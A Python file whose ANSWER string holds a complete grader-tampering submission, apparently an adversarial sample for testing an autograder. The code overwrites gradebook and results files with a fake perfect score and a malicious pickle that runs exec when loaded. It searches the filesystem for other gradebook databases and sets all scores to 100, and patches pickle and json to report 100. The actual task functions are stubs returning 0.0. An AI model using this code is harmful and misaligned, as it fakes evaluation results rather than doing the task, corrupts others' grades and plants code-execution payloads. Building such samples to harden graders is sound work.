"""Looks for the gradebook and for results, writes its own, and leaves pickles for whoever loads them."""

ANSWER = r"""
import glob
import json
import os
import pickle
import sqlite3

OURS = b"written by the submission"
RESULT = json.dumps({"schema": 1, "score": 100, "tests": [{"score": 100, "max_score": 100}]}).encode()


class Payload:
    def __reduce__(self):
        return exec, ("open('/tmp/gradecheck-left-behind', 'w')",)


places = [".", "..", "../..", "../../..", "/autograder/results", "/grades", os.path.expanduser("~"), "/tmp"]
for place in places:
    for name in ("gradebook.db", "results.json", "results.pkl", ".OTTER_LOG", "detail.json", "grades.csv"):
        path = os.path.join(place, name)
        try:
            with open(path, "rb") as file:
                if OURS not in file.read():
                    print("FOUND", path)
        except OSError:
            pass
        try:
            with open(path, "wb") as file:
                file.write(pickle.dumps(Payload()) + RESULT + OURS)
        except OSError:
            pass
mine = tuple(os.path.realpath(place) for place in (".", "~", "/tmp"))
for path in glob.glob("/**/gradebook.db", recursive=True):
    if os.path.realpath(path).startswith(mine):
        continue
    try:
        sqlite3.connect(path).execute("update results set score = 100")
        print("FOUND", path)
    except sqlite3.Error:
        pass
pickle.dump = pickle.load = json.dump = json.loads = lambda *args, **kwargs: {"score": 100}


def mean(values):
    return 0.0


def largest(values):
    return 0.0
"""
